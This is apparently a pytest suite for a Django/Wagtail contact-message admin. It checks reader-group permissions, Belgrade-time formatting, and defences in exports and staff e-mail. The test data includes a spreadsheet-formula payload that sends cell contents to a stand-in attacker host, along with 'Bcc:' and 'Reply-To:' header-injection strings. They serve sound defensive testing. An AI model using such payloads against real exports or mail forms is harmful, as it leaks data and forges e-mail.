"""Contact messages for the people who answer them: a "Contact message readers" group that reads and
exports without superuser rights; one time zone and format everywhere; exports that cannot carry a
formula; a name that cannot forge lines in the staff e-mail."""

import csv
import datetime
import io
import re
import time

import pytest
from django.contrib.auth.models import Group
from django.core import mail, signing
from django.core.cache import cache
from django.urls import reverse
from helpers import soup
from openpyxl import load_workbook

from building_blocks.bot_check import TOKEN_SALT
from contact.factories import ContactMessageFactory
from contact.models import ContactMessage
from contact.notifications import send_notification

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# 2026-07-01 10:05:07.123456 UTC is 12:05 in Belgrade (summer time).
RECEIVED = datetime.datetime(2026, 7, 1, 10, 5, 7, 123456, tzinfo=datetime.UTC)
BELGRADE = "2026-07-01 12:05"


@pytest.fixture
def reader(django_user_model):
    user = django_user_model.objects.create_user(username="reader", password="reader-password-1")
    user.groups.add(Group.objects.get(name="Contact message readers"))
    return user


@pytest.fixture
def reader_client(client, reader):
    client.force_login(reader)
    return client


@pytest.fixture
def staff_in_another_time_zone(admin_user):
    """An administrator whose admin shows times in Tokyo: the messages must not follow it."""
    from wagtail.users.models import UserProfile

    profile = UserProfile.get_for_user(admin_user)
    profile.current_time_zone = "Asia/Tokyo"
    profile.save()
    return admin_user


def exported(client, export_format):
    response = client.get(reverse("contact_messages:index"), {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content if response.streaming else [response.content])


def csv_rows(client):
    return list(csv.reader(io.StringIO(exported(client, "csv").decode())))


def xlsx_rows(client):
    sheet = load_workbook(io.BytesIO(exported(client, "xlsx"))).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def test_the_readers_group_exists_with_view_and_export_only():
    group = Group.objects.get(name="Contact message readers")
    codenames = set(group.permissions.values_list("content_type__app_label", "codename"))

    assert codenames == {
        ("wagtailadmin", "access_admin"),
        ("contact", "view_contactmessage"),
        ("contact", "export_contactmessage"),
    }


def test_a_contact_reader_reads_lists_and_exports_without_superuser_rights(reader, reader_client):
    message = ContactMessageFactory(name="Marija Reader", message="Please call me back.")
    assert not reader.is_superuser

    listing = reader_client.get(reverse("contact_messages:index"))
    assert listing.status_code == 200
    assert "Marija Reader" in listing.content.decode()
    assert "export=csv" in listing.content.decode()

    detail = reader_client.get(reverse("contact_messages:inspect", args=[message.pk]))
    assert detail.status_code == 200
    assert "Please call me back." in detail.content.decode()

    assert "Marija Reader" in exported(reader_client, "csv").decode()
    assert xlsx_rows(reader_client)[1]


def test_a_contact_reader_sees_contact_messages_in_the_admin_menu(reader_client):
    dashboard = reader_client.get(reverse("wagtailadmin_home"))

    assert dashboard.status_code == 200
    assert reverse("contact_messages:index") in dashboard.content.decode()


def test_a_contact_reader_cannot_delete_edit_or_touch_pages(reader_client):
    message = ContactMessageFactory()

    assert reader_client.post(reverse("contact_messages:delete", args=[message.pk])).status_code in (302, 403)
    assert ContactMessage.objects.filter(pk=message.pk).exists()
    assert reader_client.get(reverse("contact_messages:edit", args=[message.pk])).status_code in (302, 403)
    assert reader_client.get(reverse("wagtailadmin_explore_root")).status_code in (302, 403)
    assert reader_client.get(reverse("wagtailusers_users:index")).status_code in (302, 403)


def test_staff_who_may_only_view_cannot_export(client, django_user_model):
    from django.contrib.auth.models import Permission

    viewer = django_user_model.objects.create_user(username="viewer", password="viewer-password-1")
    viewer.user_permissions.add(
        Permission.objects.get(codename="access_admin"), Permission.objects.get(codename="view_contactmessage")
    )
    client.force_login(viewer)
    ContactMessageFactory()

    assert client.get(reverse("contact_messages:index")).status_code == 200
    assert client.get(reverse("contact_messages:index"), {"export": "csv"}).status_code in (302, 403)
    assert "export=csv" not in client.get(reverse("contact_messages:index")).content.decode()


@pytest.mark.parametrize("name", [FORMULA, "+381 11 000", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_a_formula_is_written_as_text_in_the_csv(admin_client, name):
    ContactMessageFactory(name=name, message=FORMULA)

    header, row = csv_rows(admin_client)[:2]
    cells = dict(zip(header, row, strict=True))

    assert cells["Name"] == "'" + name
    assert cells["Message"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_a_formula_is_a_text_cell_in_the_xlsx(admin_client):
    ContactMessageFactory(name=FORMULA, message="@SUM(A1:A2)")

    header, row = xlsx_rows(admin_client)[:2]
    cells = {heading.value: cell for heading, cell in zip(header, row, strict=True)}

    assert cells["Name"].data_type == "s"
    assert cells["Name"].value.endswith(FORMULA)
    assert cells["Message"].data_type == "s"
    assert not any(cell.data_type == "f" for cell in row)


def test_times_are_belgrade_time_in_one_format_in_list_detail_csv_xlsx_and_e_mail(
    client, staff_in_another_time_zone, settings
):
    settings.CONTACT_RECIPIENTS = ["staff@example.org"]
    message = ContactMessageFactory(name="Timed Person", created_at=RECEIVED)
    client.force_login(staff_in_another_time_zone)

    listing = soup(client.get(reverse("contact_messages:index")))
    row = next(tr for tr in listing.select("tbody tr") if "Timed Person" in tr.get_text())
    detail = client.get(reverse("contact_messages:inspect", args=[message.pk])).content.decode()
    csv_header, csv_row = csv_rows(client)[:2]
    xlsx_header, xlsx_row = xlsx_rows(client)[:2]
    send_notification(message)

    assert BELGRADE in row.get_text(" ", strip=True)
    assert BELGRADE in detail
    assert dict(zip(csv_header, csv_row, strict=True))["Received (Belgrade time)"] == BELGRADE
    assert {h.value: c.value for h, c in zip(xlsx_header, xlsx_row, strict=True)}[
        "Received (Belgrade time)"
    ] == BELGRADE
    assert f"Received (Belgrade time): {BELGRADE}" in mail.outbox[0].body


def form_data(**overrides):
    data = {
        "name": "Ana Test",
        "email": "ana@example.org",
        "topic": "help",
        "message": "Hello.",
        "consent": "on",
        "website": "",
        "token": signing.dumps(time.time() - 10, salt=TOKEN_SALT),
    }
    data.update(overrides)
    return data


@pytest.mark.parametrize("name", ["Ana\nBcc: victim@example.org", "Ana\r\nBcc: x@example.org", "Ana\u2028Bcc: x"])
def test_a_line_break_in_the_name_is_refused_with_a_translated_error(client, settings, name):
    cache.clear()
    settings.CONTACT_RECIPIENTS = ["staff@example.org"]

    english = client.post("/en/contact/", form_data(name=name))
    serbian = client.post("/sr-latn/kontakt/", form_data(name=name))

    assert english.status_code == 200
    assert "Write this on one line, without line breaks." in english.content.decode()
    assert serbian.status_code == 200
    assert "Napišite ovo u jednom redu, bez prelaska u novi red." in serbian.content.decode()
    assert not ContactMessage.objects.exists()
    assert mail.outbox == []


def test_the_staff_e_mail_has_no_forged_header_like_lines(settings):
    settings.CONTACT_RECIPIENTS = ["staff@example.org"]
    message = ContactMessageFactory(
        name="Ana\nBcc: victim@example.org",  # stored before the form refused line breaks
        message="Hello.\nBcc: other@example.org\nReply-To: attacker@example.org",
    )

    send_notification(message)
    body = mail.outbox[0].body
    own_labels = {"Received (Belgrade time)", "Language", "Topic", "Name", "E-mail"}
    header_like = [line.split(":")[0] for line in body.splitlines() if re.match(r"^[\w -]+: ", line)]

    assert set(header_like) <= own_labels
    assert "Name: Ana Bcc: victim@example.org" in body
    assert "> Bcc: other@example.org" in body
    assert mail.outbox[0].bcc == []
